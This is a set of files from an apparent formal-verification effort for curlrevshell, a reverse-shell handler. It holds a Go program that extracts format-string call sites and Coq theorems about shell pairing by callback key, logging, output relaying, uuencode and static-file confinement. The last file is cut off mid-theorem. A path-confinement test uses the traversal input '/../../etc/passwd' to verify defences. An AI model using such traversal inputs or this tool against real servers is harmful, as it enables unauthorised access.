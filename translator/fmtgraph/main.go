// Command fmtgraph is the C10 translator: it type-checks the module under
// test (the current working tree) and writes, as Coq data, every call of a
// printf-style function - fmt.*f, log.*f and every function or method of the
// module whose trailing parameters are (format string, args ...any) - with the
// CLASS of the expression in the format position:
//
//	Const s   a constant string (literal, named constant, concatenation)
//	Forward   the caller's own format parameter, passed on with its own
//	          variadic arguments (a wrapper)
//	Computed  anything else (a string built at run time)
//
// It is compiled inside the module through a build overlay so that it sees
// exactly the tree the checks are run against.
package main

import (
	"fmt"
	"go/ast"
	"go/build"
	"go/constant"
	"go/importer"
	"go/parser"
	"go/token"
	"go/types"
	"os"
	"path/filepath"
	"sort"
	"strings"

)

func hexs(s string) string {
	var sb strings.Builder
	for i := 0; i < len(s); i++ {
		fmt.Fprintf(&sb, "%02x", s[i])
	}
	return sb.String()
}

// printfLike reports whether sig ends in (string, ...interface{}) and the index of the format parameter.
func printfLike(sig *types.Signature) (int, bool) {
	p := sig.Params()
	n := p.Len()
	if !sig.Variadic() || n < 2 {
		return 0, false
	}
	last, ok := p.At(n - 1).Type().(*types.Slice)
	if !ok {
		return 0, false
	}
	if it, ok := last.Elem().Underlying().(*types.Interface); !ok || !it.Empty() {
		return 0, false
	}
	if b, ok := p.At(n - 2).Type().Underlying().(*types.Basic); !ok || b.Kind() != types.String {
		return 0, false
	}
	return n - 2, true
}

const modPath = "github.com/magisterquis/curlrevshell"

// lpkg is one type-checked package of the module.
type lpkg struct {
	PkgPath   string
	Fset      *token.FileSet
	Syntax    []*ast.File
	TypesInfo *types.Info
	Types     *types.Package
}

// modImporter type-checks the module's own packages from the working tree
// and everything else from source (GOROOT / module cache).
type modImporter struct {
	root string
	fset *token.FileSet
	src  types.ImporterFrom
	done map[string]*lpkg
}

func (m *modImporter) Import(path string) (*types.Package, error) { return m.ImportFrom(path, m.root, 0) }
func (m *modImporter) ImportFrom(path, dir string, mode types.ImportMode) (*types.Package, error) {
	if path == modPath || strings.HasPrefix(path, modPath+"/") {
		p, err := m.load(path)
		if nil != err {
			return nil, err
		}
		return p.Types, nil
	}
	return m.src.ImportFrom(path, m.root, mode)
}

func (m *modImporter) load(path string) (*lpkg, error) {
	if p, ok := m.done[path]; ok {
		return p, nil
	}
	dir := filepath.Join(m.root, strings.TrimPrefix(strings.TrimPrefix(path, modPath), "/"))
	bp, err := build.Default.ImportDir(dir, 0)
	if nil != err {
		return nil, err
	}
	var files []*ast.File
	for _, fn := range bp.GoFiles {
		f, err := parser.ParseFile(m.fset, filepath.Join(dir, fn), nil, parser.ParseComments)
		if nil != err {
			return nil, err
		}
		files = append(files, f)
	}
	info := &types.Info{Types: map[ast.Expr]types.TypeAndValue{}, Defs: map[*ast.Ident]types.Object{}, Uses: map[*ast.Ident]types.Object{}}
	conf := types.Config{Importer: m, Error: func(error) {}}
	tp, _ := conf.Check(path, m.fset, files, info)
	p := &lpkg{PkgPath: path, Fset: m.fset, Syntax: files, TypesInfo: info, Types: tp}
	m.done[path] = p
	return p, nil
}

func main() {
	root := os.Args[1]
	fset := token.NewFileSet()
	build.Default.Dir = root
	m := &modImporter{root: root, fset: fset, done: map[string]*lpkg{},
		src: importer.ForCompiler(fset, "source", nil).(types.ImporterFrom)}
	var pkgs []*lpkg
	filepath.WalkDir(root, func(p string, d os.DirEntry, err error) error {
		if nil != err || !d.IsDir() {
			return nil
		}
		if b := d.Name(); p != root && (strings.HasPrefix(b, ".") || b == "testdata" || b == "zz_verif" || b == "doc") {
			return filepath.SkipDir
		}
		if ms, _ := filepath.Glob(filepath.Join(p, "*.go")); 0 == len(ms) {
			return nil
		}
		rel, _ := filepath.Rel(root, p)
		path := modPath
		if "." != rel {
			path += "/" + filepath.ToSlash(rel)
		}
		lp, err := m.load(path)
		if nil != err {
			if _, ok := err.(*build.NoGoError); ok {
				return nil
			}
			fmt.Fprintln(os.Stderr, "load", path, err)
			os.Exit(2)
		}
		pkgs = append(pkgs, lp)
		return nil
	})
	var lines []string
	for _, pkg := range pkgs {
		if strings.Contains(pkg.PkgPath, "zz_verif") {
			continue
		}
		for _, f := range pkg.Syntax {
			fname := pkg.Fset.Position(f.Pos()).Filename
			var visit func(body ast.Node, ownFmt, ownVar types.Object, infunc string)
			visit = func(body ast.Node, ownFmt, ownVar types.Object, infunc string) {
				ast.Inspect(body, func(n ast.Node) bool {
					if fl, ok := n.(*ast.FuncLit); ok && fl != body {
						of, ov := ownFmt, ownVar /* a closure sees the enclosing parameters... */
						if tv, ok := pkg.TypesInfo.Types[fl]; ok {
							if sig, ok := tv.Type.(*types.Signature); ok {
								if i, ok := printfLike(sig); ok { /* ...unless it is itself printf-like */
									of, ov = sig.Params().At(i), sig.Params().At(i+1)
								}
							}
						}
						visit(fl.Body, of, ov, infunc+".func")
						return false
					}
					call, ok := n.(*ast.CallExpr)
					if !ok {
						return true
					}
					var callee *types.Func
					switch fn := call.Fun.(type) {
					case *ast.SelectorExpr:
						callee, _ = pkg.TypesInfo.Uses[fn.Sel].(*types.Func)
					case *ast.Ident:
						callee, _ = pkg.TypesInfo.Uses[fn].(*types.Func)
					}
					var sig *types.Signature
					name := ""
					if nil != callee {
						sig = callee.Type().(*types.Signature)
						name = callee.FullName()
					} else if tv, ok := pkg.TypesInfo.Types[call.Fun]; ok { /* a func value, e.g. a local closure */
						sig, _ = tv.Type.Underlying().(*types.Signature)
						name = infunc + ".funcvalue"
					}
					if nil == sig {
						return true
					}
					idx, ok := printfLike(sig)
					if !ok || idx >= len(call.Args) {
						return true
					}
					/* Only formatting functions: fmt, log, and the module's own wrappers. */
					if nil != callee && nil != callee.Pkg() {
						pp := callee.Pkg().Path()
						if pp != "fmt" && pp != "log" && !strings.HasPrefix(pp, modPath) {
							return true
						}
						if pp == "fmt" && strings.Contains(strings.ToLower(callee.Name()), "scan") {
							return true
						}
					}
					arg := call.Args[idx]
					pos := pkg.Fset.Position(call.Pos())
					site := fmt.Sprintf("%s:%d", strings.TrimPrefix(fname, root+"/"), pos.Line)
					nargs := len(call.Args) - idx - 1
					class := "Computed"
					lit := ""
					if tv, ok := pkg.TypesInfo.Types[arg]; ok && nil != tv.Value && tv.Value.Kind() == constant.String {
						class, lit = "Const", constant.StringVal(tv.Value)
					} else if id, ok := arg.(*ast.Ident); ok && nil != ownFmt && pkg.TypesInfo.Uses[id] == ownFmt {
						/* forwarded together with the caller's own variadic, spread */
						if call.Ellipsis != token.NoPos && nargs == 1 {
							if vid, ok := call.Args[idx+1].(*ast.Ident); ok && pkg.TypesInfo.Uses[vid] == ownVar {
								class = "Forward"
							}
						}
					}
					spread := call.Ellipsis != token.NoPos
					lines = append(lines, fmt.Sprintf("  {| site := unhex \"%s\"; infunc := unhex \"%s\"; callee := unhex \"%s\"; cls := %s; nargs := %d; spread := %v |}",
						hexs(site), hexs(infunc), hexs(name), map[string]string{"Const": "FConst (unhex \"" + hexs(lit) + "\")", "Forward": "FForward", "Computed": "FComputed"}[class],
						nargs, spread))
					return true
				})
			}
			for _, d := range f.Decls {
				fd, ok := d.(*ast.FuncDecl)
				if !ok || nil == fd.Body {
					continue
				}
				var ownFmt, ownVar types.Object
				fn := fd.Name.Name
				if obj, ok := pkg.TypesInfo.Defs[fd.Name].(*types.Func); ok {
					fn = obj.FullName()
					sig := obj.Type().(*types.Signature)
					if i, ok := printfLike(sig); ok {
						ownFmt, ownVar = sig.Params().At(i), sig.Params().At(i+1)
					}
				}
				visit(fd.Body, ownFmt, ownVar, fn)
			}
			/* package-level initialisers (var x = fmt.Sprintf(...)) */
			for _, d := range f.Decls {
				if gd, ok := d.(*ast.GenDecl); ok {
					visit(gd, nil, nil, pkg.PkgPath+".init")
				}
			}
		}
	}
	sort.Strings(lines)
	fmt.Println("(* generated by /verif/translator/fmtgraph from the working tree of the module; do not edit *)")
	fmt.Println("From CRS Require Import Lib.Bytes Lib.Fmt.")
	fmt.Println("Open Scope string_scope.")
	fmt.Println("Definition sites : list fsite := [")
	fmt.Println(strings.Join(lines, ";\n"))
	fmt.Println("].")
}
