(** C17 — the Ctrl+I payload.  The model (Model/Conv.v) takes the verdicts of
    path.Match as a parameter [matches]/[bad] (environment), so every theorem
    here holds for whatever those functions are (the only fact used about them:
    a pattern without meta characters matches exactly itself). *)
From CRS Require Import Lib.Bytes Lib.Sort Model.Perl Model.Conv Proofs.ConvProofs Proofs.ConvFull.
Open Scope N_scope.

(** Built from a directory: the payload is the concatenation, in lexicographic
    name order, of exactly the eligible entries (regular after following links,
    name matched by some pattern, not a dot-file), each converted by the first
    matching filter and newline-terminated — [spec_dir], the statement's own
    description — for every listing with distinct names, every filter table
    with well-formed patterns, provided no non-dot matching name is a dangling
    link (a filter that fails makes the whole conversion fail). *)
Theorem c17_dir_is_spec : forall matches bad tab d,
  (forall p n, has_meta p = false -> matches p n = beq p n) ->
  NoDup (map fst d) ->
  Forall (fun e => path_base (fst e) = fst e) d ->
  dir_in_scope matches bad tab d = true ->
  from_dir matches bad tab d =
  match spec_dir matches tab d with Some b => ROk b | None => RErr 2 end.
Proof. exact from_dir_is_spec. Qed.

(** Sub-directories, non-matching files, dot-files (dangling links included)
    and special files contribute nothing and cannot make the conversion fail:
    two directories with the same eligible entries give the same result. *)
Theorem c17_ineligible_inert : forall matches bad tab d1 d2,
  (forall p n, has_meta p = false -> matches p n = beq p n) ->
  NoDup (map fst d1) -> NoDup (map fst d2) ->
  Forall (fun e => path_base (fst e) = fst e) d1 -> Forall (fun e => path_base (fst e) = fst e) d2 ->
  dir_in_scope matches bad tab d1 = true -> dir_in_scope matches bad tab d2 = true ->
  (forall e, eligible matches (sort_table tab) e = true -> (In e d1 <-> In e d2)) ->
  from_dir matches bad tab d1 = from_dir matches bad tab d2.
Proof. exact ineligible_inert. Qed.

(** Conversion uses the first matching filter in pattern order. *)
Theorem c17_first_matching_filter : forall matches bad t name content,
  existsb (fun pf => bad (fst pf)) t = false ->
  from_reader matches bad t name content =
  match find (fun pf => matches (fst pf) (path_base name)) t with
  | Some (_, f) => Some (match apply_filter f name content with
                         | Some b => ROk (ensure_nl b) | None => RErr 2 end)
  | None => None
  end.
Proof. exact from_reader_first. Qed.

(** Built from a single file whose name matches no pattern: content unchanged. *)
Theorem c17_single_file_unmatched : forall matches bad tab name content,
  existsb (fun pf => bad (fst pf)) (sort_table tab) = false ->
  forallb (fun pf => negb (matches (fst pf) (path_base name))) (sort_table tab) = true ->
  from_single matches bad tab name content = ROk content.
Proof. exact single_unmatched. Qed.

(** Several sources are concatenated in the order given. *)
Theorem c17_sources_concat : forall matches bad tab a b,
  from_sources matches bad tab (a ++ b) =
  match from_sources matches bad tab a with
  | ROk x => match from_sources matches bad tab b with ROk y => ROk (x ++ y) | e => e end
  | e => e
  end.
Proof. exact sources_app. Qed.

(** Dot-names (whatever they are: dangling links included), directories and
    special files contribute nothing and cannot make the conversion fail. *)
Theorem c17_dot_inert : forall matches bad t d n r, is_dot n = true ->
  convert_files matches bad t d (n :: r) = convert_files matches bad t d r.
Proof. exact convert_skip_dot. Qed.

Theorem c17_nonregular_inert : forall matches bad t d n r, is_dot n = false ->
  (lookup d n = Some KDir \/ lookup d n = Some KSpecial) ->
  convert_files matches bad t d (n :: r) = convert_files matches bad t d r.
Proof. exact convert_skip_nonregular. Qed.

(** Each converted part is empty or newline-terminated. *)
Theorem c17_newline_terminated : forall b, ensure_nl b = [] \/ last (ensure_nl b) 0 = 10.
Proof. exact ensure_nl_terminated. Qed.

(** Non-vacuity: the dot-file / dangling-link scenario of the fixed defect. *)
Example c17_example :
  let m := fun p n : bytes => beq p (txt "*.sh") && bprefix (rev (txt ".sh")) (rev n) in
  let d := [(txt ".#a.sh", KDangling); (txt "b.sh", KReg (txt "b")); (txt "a.sh", KReg (txt "a
")); (txt "sub.sh", KDir)] in
  from_dir m (fun _ => false) [(txt "*.sh", FShell)] d = ROk (txt "a
b
") /\ spec_dir m [(txt "*.sh", FShell)] d = Some (txt "a
b
") /\ dir_in_scope m (fun _ => false) [(txt "*.sh", FShell)] d = true.
Proof. vm_compute. repeat split; reflexivity. Qed.

From CRS Require Import Model.ConvFds Proofs.ConvFdsProofs.
(** Descriptors: each eligible file is opened and closed inside its own function
    literal, so however many files a directory holds at most one is open at any
    time and the conversion fits under any descriptor limit that leaves room for
    one more file; closing only when the whole directory is done ([leaky_trace],
    `defer` in the loop body) keeps them all open and fails for a big enough
    directory.  Tie: directories of 130 / 180 eligible files are converted under
    RLIMIT_NOFILE = 96 on every run and must give the model's output. *)
Theorem c17_one_descriptor_at_a_time : forall n, (peak (dir_trace n) <= 1)%nat.
Proof. exact dir_peak. Qed.
Theorem c17_fits_any_limit : forall held limit n, (held + 1 < limit)%nat -> fits held limit (dir_trace n) = true.
Proof. exact dir_fits. Qed.
Theorem c17_close_at_end_refuted : forall limit, exists n, fits 0%nat limit (leaky_trace n) = false.
Proof. exact leaky_refuted. Qed.
