(** C15 — uuencode is Perl-compatible and round-trips; decoding is total and
    pure.  Property theorems only; each is closed by [exact] of a lemma proved
    in Proofs/. *)
From CRS Require Import Lib.Bytes Model.UU Proofs.UUProofs Proofs.UUTotal Proofs.UUPerl.
Open Scope N_scope.

(** Decoding the encoder's output returns the original bytes, appended to the
    caller's buffer: for every source and destination. *)
Theorem c15_roundtrip : forall dst src, wf_bytes src ->
  decode dst (encode src) = Ok (dst ++ src).
Proof. exact decode_encode. Qed.

(** The decoder terminates (it is a total function) and no input whatsoever —
    no well-formedness assumed — drives it into a Go index-out-of-range. *)
Theorem c15_decode_total : forall dst s, decode dst s <> Panic.
Proof. exact decode_no_panic. Qed.

(** A successful decode extends the destination; what is appended does not
    depend on the destination. *)
Theorem c15_appends : forall dst s r, decode dst s = Ok r ->
  exists t, r = dst ++ t /\ decode [] s = Ok t.
Proof. exact decode_appends. Qed.

(** MaxEncodedLen / MaxDecodedLen never under-estimate. *)
Theorem c15_max_encoded : forall src,
  N.of_nat (length (encode src)) <= max_encoded_len (N.of_nat (length src)).
Proof. exact encode_length_bound. Qed.

Theorem c15_max_decoded : forall s r, decode [] s = Ok r ->
  N.of_nat (length r) <= max_decoded_len (N.of_nat (length s)).
Proof. exact decode_length_bound. Qed.

(** Encoder output uses only newline and the characters '!' .. '`' (used by C16). *)
Theorem c15_alphabet : forall src, Forall (fun c => c = 10 \/ 33 <= c <= 96) (encode src).
Proof. exact encode_alphabet. Qed.

(** The encoder's output is, for every byte string, byte-identical to the
    bit-regrouping specification of Perl's pack("u", ...) — so Perl's
    unpack("u", ...) recovers the source exactly (PerlProofs). *)
Theorem c15_perl_compatible : forall src, wf_bytes src -> encode src = perl_pack_u src.
Proof. exact encode_is_perl_pack_u. Qed.

(** Non-vacuity: a concrete non-trivial round trip (the repository's own "Cat" vector). *)
Example c15_cat :
  encode (txt "Cat
") = [36; 48; 86; 37; 84; 34; 64; 96; 96; 10] /\
  decode [1; 2] (encode (txt "Cat
")) = Ok [1; 2; 67; 97; 116; 10] /\ wf_bytes (txt "Cat
").
Proof. repeat split; try reflexivity. repeat constructor. Qed.
