(** C14 — simpleshell relays everything the wrapped command writes before
    reporting EOF.  PARTIAL: the theorem is about the ordering protocol of
    CmdShell.Go (copy until both pipes report EOF, then close the stream, then
    reap); os/exec, kernel pipes and io.Pipe are modelled by their contracts
    and exercised by a stress run with real child processes. *)
From CRS Require Import Lib.Bytes Model.CmdShell Proofs.CmdShellProofs.
Open Scope N_scope.

Theorem c14_all_relayed_before_eof : forall o e sched,
  closed (crun o e sched) = true -> deliv_o (crun o e sched) = o /\ deliv_e (crun o e sched) = e.
Proof. exact all_relayed_before_eof. Qed.

Theorem c14_delivered_is_prefix : forall o e sched,
  exists ro re, o = deliv_o (crun o e sched) ++ ro /\ e = deliv_e (crun o e sched) ++ re.
Proof. exact delivered_is_prefix. Qed.

Theorem c14_truncation_refuted : exists o sched,
  let s := fold_left cnext [CloseStream] (waiter_closes (crun o [] sched)) in
  closed s = true /\ deliv_o s <> o.
Proof. exact truncation_refuted. Qed.

Theorem c14_error_iff_nonzero_exit : forall st, go_reports_error st = negb (st =? 0).
Proof. reflexivity. Qed.

Example c14_example :
  let s := crun [1; 2; 3; 4; 5] [9; 8] [ChildWrite FOut 2 2; Copy FOut 1; ChildWrite FErr 5 1; ChildWrite FOut 9 4; CopyEof FOut;
                                       Copy FErr 1; ChildWrite FErr 1 1; ChildExit; Copy FOut 10; CloseStream; CopyEof FOut; Copy FErr 3;
                                       CopyEof FErr; CloseStream] in
  closed s = true /\ deliv_o s = [1; 2; 3; 4; 5] /\ deliv_e s = [9; 8].
Proof. vm_compute. repeat split; reflexivity. Qed.

From CRS Require Import Proofs.CmdShellLive.
(** No run can get stuck: from every state of every run there is a
    continuation (the child writes what it has left and exits, the copiers
    drain the pipes and see end of file, the stream is closed) after which the
    stream has ended and everything the command wrote has been delivered.
    (That the continuation is actually taken is scheduling fairness: the
    goroutines and the child are runnable.) *)
Theorem c14_every_run_can_complete : forall o e sched,
  let s := crun o e sched in
  let s' := fold_left cnext (finish s) s in
  closed s' = true /\ deliv_o s' = o /\ deliv_e s' = e.
Proof. exact every_run_can_complete. Qed.
