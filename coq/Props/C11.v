(** C11 — the log is a complete, ordered transcript.  (That the JSON handler
    writes one parsable object per line is checked by the harness against the
    real slog.NewJSONHandler; slog's escaping is standard library.) *)
From CRS Require Import Lib.Bytes Model.Broker Proofs.BrokerProofs Props.C01.
Open Scope N_scope.

(** Input: the 'Shell I/O' records are exactly the lines written, in order,
    minus at most the last one — whose own failure ended the stream. *)
Theorem c11_input_records : forall fuel s x, exists last,
  flat_map w_data (o_w (snd (deliver fuel s x))) = flat_map lio (o_log (snd (deliver fuel s x))) ++ last /\
  (length last <= 1)%nat /\
  (last <> [] -> In (Log (LDisc true) (st_id x)) (o_log (snd (deliver fuel s x)))).
Proof. exact deliver_logged. Qed.

(** Output: each displayed chunk has exactly one record with the same bytes. *)
Theorem c11_output_records : forall s id data e x,
  get s id = Some x -> st_ph x = PAttached -> sd_dir (st_d x) = DOut ->
  exists tail ltail,
    o_och (snd (step s (OData id data e))) = (match data with [] => [] | _ => [OPlain data] end) ++ tail /\
    (forall d, ~ In (OPlain d) tail) /\
    o_log (snd (step s (OData id data e))) = (match data with [] => [] | _ => [Log (LIO data) id] end) ++ ltail /\
    (forall d i, ~ In (Log (LIO d) i) ltail).
Proof. exact data_step. Qed.

(** Refused attempts (outside shutdown): exactly one error record. *)
Theorem c11_refusal_record : forall s x, accepts s x = false -> nomore s = false ->
  exists l, o_log (snd (admission s x)) = [Log l (st_id x)].
Proof. intros s x Ha Hn. destruct (admission_refuses s x Ha) as (_ & _ & _ & _ & _ & _ & H). apply H, Hn. Qed.

Example c11_example :
  let ops := [OAdmit 1 (mkd DIn (KUni [97]) 1); OAdmit 2 (mkd DOut (KUni [97]) 2); OLine [105; 100];
              OData 2 [34; 0; 255] None; OAdmit 3 (mkd DIn (KUni []) 3)] in
  map o_log (snd (run ops)) =
    [[Log LNew 1]; [Log LNew 2]; [Log (LIO [105; 100; 10]) 1]; [Log (LIO [34; 0; 255]) 2]; [Log LKeyMissing 3]].
Proof. vm_compute. reflexivity. Qed.

From CRS Require Import Model.ProxyOut Proofs.ProxyOutProofs.
(** Over the fine-grained model of proxyOut, for every interleaving, terminal
    speed and cancellation point: the 'Shell I/O' output records are exactly
    the chunks handed to the operator, in order - nothing undelivered is
    logged, nothing delivered is missing. *)
Theorem c11_queue_logged_is_delivered : forall cap reads es,
  let s := prun cap (pinit reads) es in logged s = shown s ++ och s.
Proof. exact logged_is_delivered. Qed.

From CRS Require Import Lib.Split Model.LogFile Proofs.LogFileProofs.
(** The log FILE across runs: opened with O_APPEND (the flags are read off the
    working tree by translator/openflags on every run and turned into the mode
    by [mode_of_flags]: per-run obligation c11_tree_log_opened_for_append), the
    file is what was there before followed by every record written through an
    open description, in write order - for any number of successive or
    overlapping runs and any interleaving of their writes; records being
    newline-free lines, the file split into lines is the old lines followed by
    exactly the records.  Opening without O_APPEND (or with O_TRUNC) is refuted:
    a second run destroys the first run's records. *)
Theorem c11_append_keeps_everything : forall ops s,
  l_file (lrun MAppend s ops) = l_file s ++ concat (written (opened_of s) ops).
Proof. exact append_keeps_everything. Qed.
Theorem c11_file_lines_are_the_records : forall old recs ops,
  Forall (fun r => ~ In 10 r) old -> Forall (fun r => ~ In 10 r) recs ->
  written [] ops = map (fun r => r ++ [10]) recs ->
  split_on 10 (l_file (lrun MAppend (linit (concat (map (fun r => r ++ [10]) old))) ops)) = old ++ recs ++ [[]].
Proof. exact append_lines_are_the_records. Qed.
Theorem c11_from_start_refuted :
  exists ops, written [] ops = [[97; 97; 97; 97; 10]; [98; 10]] /\
              split_on 10 (l_file (lrun MFromStart (linit []) ops)) = [[98]; [97; 97]; []].
Proof. exact from_start_refuted. Qed.
Theorem c11_trunc_refuted :
  exists ops, written [] ops = [[97; 10]; [98; 10]] /\ l_file (lrun MTrunc (linit []) ops) = [98; 10].
Proof. exact trunc_refuted. Qed.
