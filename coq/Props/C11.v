From CRS Require Import Lib.Bytes Model.Broker.
Theorem c11_placeholder : cin init = None.
Proof. reflexivity. Qed.
