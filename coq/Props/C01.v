(** C01 — one shell at a time, and its two streams carry the same callback ID.
    All statements are about every reachable state of the broker model
    ([run ops] for EVERY operation list: any mix of attempts, IDs, endings,
    releases in any order, shutdown). *)
From CRS Require Import Lib.Bytes Model.Broker Proofs.BrokerProofs.
Open Scope N_scope.

(** The broker holds at most one input and one output stream (one slot each);
    the holders have the right direction, a non-empty key, and — when both
    slots are occupied — the SAME key (byte equality). *)
Theorem c01_attached_same_key : forall ops a da b db,
  cin (fst (run ops)) = Some (a, da) -> cout (fst (run ops)) = Some (b, db) ->
  sd_dir da = DIn /\ sd_dir db = DOut /\ sd_key da = sd_key db /\ key_missing (sd_key da) = false.
Proof. exact attached_same_key. Qed.

(** The streams whose connect call is in progress (proxy running or waiting
    to release) are exactly the slot holders; identities are never confused. *)
Theorem c01_busy_iff_slot_holder : forall ops, Tab (fst (run ops)).
Proof. exact Tab_reachable. Qed.

(** The admission decision, exactly: an attempt is accepted iff [accepts]. *)
Theorem c01_accepted : forall s x, accepts s x = true ->
  slot (fst (admission s x)) (sd_dir (st_d x)) = Some (st_id x, st_d x) /\
  bkey (fst (admission s x)) = Some (sd_key (st_d x)).
Proof. exact admission_accepts. Qed.

(** A refused attempt changes nothing but its own bookkeeping, returns at
    once, is written nothing, raises no event, and — except during shutdown —
    is announced to the operator and logged with exactly one error record. *)
Theorem c01_refused_inert : forall s x, accepts s x = false ->
  fst (admission s x) = upd s (set_phase x PDone) /\
  o_att (snd (admission s x)) = [] /\ o_ret (snd (admission s x)) = [st_id x] /\
  o_w (snd (admission s x)) = [] /\ o_ev (snd (admission s x)) = [] /\
  (nomore s = true -> o_och (snd (admission s x)) = [] /\ o_log (snd (admission s x)) = []) /\
  (nomore s = false -> o_och (snd (admission s x)) = [ONote NRefused (st_id x)] /\
                       exists l, o_log (snd (admission s x)) = [Log l (st_id x)]).
Proof. exact admission_refuses. Qed.

(** Operator input is written only to the holder of the input slot; shell
    output is displayed only when the holder of the output slot is read. *)
Theorem c01_input_only_to_holder : forall s o, Inv s -> Tab s ->
  forall w, In w (o_w (snd (step s o))) -> exists sd, cin (fst (step s o)) = Some (wid w, sd).
Proof. exact writes_go_to_cin. Qed.

Theorem c01_output_only_from_holder : forall s o, Tab s ->
  forall d, In (OPlain d) (o_och (snd (step s o))) ->
  exists id e sd, o = OData id d e /\ cout s = Some (id, sd).
Proof. exact plain_comes_from_cout. Qed.

(** Non-vacuity: full attachment; a wrong-ID, a second-input and a tear-down-window refusal. *)
Definition mkd (d : dir) (k : key) (a : N) : sdesc :=
  {| sd_dir := d; sd_key := k; sd_addr := a; sd_wk := WFlushErr; sd_wfail := None; sd_ffail := None |}.
Example c01_example :
  let ops := [OAdmit 1 (mkd DIn (KUni [97]) 1); OAdmit 3 (mkd DOut (KUni [98]) 3); OAdmit 2 (mkd DOut (KUni [97]) 2);
              OAdmit 4 (mkd DIn (KUni [97]) 4);
              OData 2 [] (Some REof); ORelease 2; OAdmit 5 (mkd DOut (KUni [97]) 5)] in
  let r := run ops in
  cin (fst (run (firstn 3 ops))) = Some (1, mkd DIn (KUni [97]) 1) /\
  cout (fst (run (firstn 3 ops))) = Some (2, mkd DOut (KUni [97]) 2) /\
  map o_log (snd r) = [[Log LNew 1]; [Log LBadKey 3]; [Log LNew 2]; [Log LDup 4]; [Log (LDisc false) 2];
                       [Log (LDisc false) 1]; [Log LTeardown 5]].
Proof. vm_compute. repeat split; reflexivity. Qed.

From CRS Require Import Lib.Pct Model.HttpIds Proofs.HttpPair.
(** At the HTTP surface (Model/HttpIds.v: the key is the percent-decoded path
    element, untouched otherwise): of two requests /i/{a}, /o/{b} arriving in
    either order on an idle server, the second attaches exactly when the
    decoded elements are the same bytes - computed through the broker model's
    two admissions; case, surrounding blanks, a common prefix, a second round
    of decoding are not normalised away. *)
Theorem c01_http_pairing : forall a b first_is_in,
  pct_decode a <> [] -> http_pairs a b first_is_in = beq (pct_decode a) (pct_decode b).
Proof. exact http_pair_iff. Qed.
