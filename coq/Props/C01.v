From CRS Require Import Lib.Bytes Model.Broker.
Theorem c01_placeholder : cin init = None.
Proof. reflexivity. Qed.
