(** C09 — static files are confined to the chosen tree and never shadow shell
    endpoints.  PARTIAL: the lexical half is proved; that net/http's mux,
    FileServer and http.Dir behave as modelled (and do not follow a path out of
    the tree other than through symlinks inside it) is exercised by the harness
    with canary files outside the tree. *)
From CRS Require Import Lib.Bytes Lib.PathClean Model.Files Proofs.PathProofs Proofs.MuxProofs.
Open Scope N_scope.

(** For EVERY decoded request path — any bytes, any leftover escapes, dot
    segments, repeated slashes, NULs, any length — the only path the file
    handler can open under the root is "/" or "/e1/e2/…" with every element
    non-empty, not ".", not "..", and free of '/': lexically inside the root. *)
Theorem c09_confined : forall p,
  exists segs, Forall good_seg segs /\ resolve p = join_rooted segs.
Proof. exact clean_rooted_confined. Qed.

Theorem c09_rooted : forall p, exists r, resolve p = 47 :: r.
Proof. exact clean_rooted_starts_with_slash. Qed.

(** A path made of good elements is served as itself (nothing is lost or rewritten). *)
Theorem c09_clean_paths_unchanged : forall segs, Forall good_seg segs ->
  clean_segs segs [] = segs.
Proof. intros segs H. rewrite clean_segs_id by exact H. reflexivity. Qed.

(** What reaches a handler at all: if net/http's mux (modelled by
    [Files.mux_redirects]; its correspondence is checked on every run) does not
    answer a request itself with a 301, the escaped path is its own clean form,
    possibly with one trailing slash: no dot segments, no repeated slashes. *)
Theorem c09_handler_paths_canonical : forall e, mux_redirects e = false ->
  exists segs, Forall good_seg segs /\ (e = join_rooted segs \/ e = join_rooted segs ++ [47]).
Proof. exact handler_paths_canonical. Qed.

(** The shell endpoints, as predicates on the escaped path: independent of any file tree. *)
Example c09_shell_paths :
  is_shell_path (txt "/c") = true /\ is_shell_path (txt "/io") = true /\ is_shell_path (txt "/io/x/y") = true /\
  is_shell_path (txt "/i/abc") = true /\ is_shell_path (txt "/o/abc") = true /\
  is_shell_path (txt "/i/") = false /\ is_shell_path (txt "/i/a/b") = false /\ is_shell_path (txt "/c/") = false /\
  is_shell_path (txt "/index.html") = false.
Proof. vm_compute. repeat split; reflexivity. Qed.

Example c09_example :
  resolve (txt "/../../etc/passwd") = txt "/etc/passwd" /\
  resolve (txt "/a/./b//../c/") = txt "/a/c" /\
  resolve (txt "/..%2f..") = txt "/..%2f.." /\
  resolve (txt "") = txt "/".
Proof. vm_compute. repeat split; reflexivity. Qed.

From CRS Require Import Model.Routes Proofs.RoutesProofs.
(** The routing table (Model/Routes.model_routes; compared with the working tree's
    mux registrations on every run - translator/routes, per-run obligation
    c09_tree_routes) and the file-handler model agree: a request is treated as a
    shell endpoint's exactly when one of the shell routes matches its path
    elements (literal elements, one non-empty {id} element, "/io/" as a subtree);
    everything else - /robots.txt, /debug/..., /io-like names - is the file
    handler's, or nobody's when no files are served. *)
Theorem c09_shell_paths_are_the_shell_routes : forall segs, is_shell_segs segs = shell_route_matches segs.
Proof. exact shell_segs_are_the_shell_routes. Qed.
