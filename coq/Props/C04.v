(** C04 — a dying shell is torn down completely, announced once, and the
    listener re-arms.  Bookkeeping level (slots, key, notices, events, wait
    group); that no goroutine keeps running is observed by the harness. *)
From CRS Require Import Lib.Bytes Model.Broker Proofs.BrokerProofs Props.C01.
Open Scope N_scope.

(** Releasing one direction cancels the other; if the other's proxy was still
    running it has ended — with its closure logged — within the same step,
    without further traffic. *)
Theorem c04_peer_ended : forall s x p pd, slot s (other (sd_dir (st_d x))) = Some (p, pd) ->
  In p (cancelled (fst (release s x))) /\
  forall px, get (upd s (set_phase x PDone)) p = Some px -> st_ph px = PAttached ->
    In (Log (LDisc false) p) (o_log (snd (release s x))).
Proof. exact release_ends_peer. Qed.

(** Exactly one 'shell is gone' notice and disconnected event, in the step
    that empties the last slot — and the broker is then as freshly started
    (no key, no slot). *)
Theorem c04_gone_exactly_once : forall s x,
  (slot s (other (sd_dir (st_d x))) = None ->
     o_och (snd (release s x)) = [ONote NGone (sd_addr (st_d x))] /\
     o_ev (snd (release s x)) = evs s [EDisc] /\
     cin (fst (release s x)) = None /\ cout (fst (release s x)) = None /\ bkey (fst (release s x)) = None) /\
  (slot s (other (sd_dir (st_d x))) <> None ->
     ~ In (ONote NGone (sd_addr (st_d x))) (o_och (snd (release s x))) /\ o_ev (snd (release s x)) = []).
Proof. exact release_gone. Qed.

(** The ready notice (and connected event) occurs exactly when an accepted
    stream finds the other slot occupied. *)
Theorem c04_ready_exactly_at_full_attachment : forall s x, accepts s x = true ->
  (In (ONote NReady (sd_addr (st_d x))) (o_och (snd (admission s x))) <->
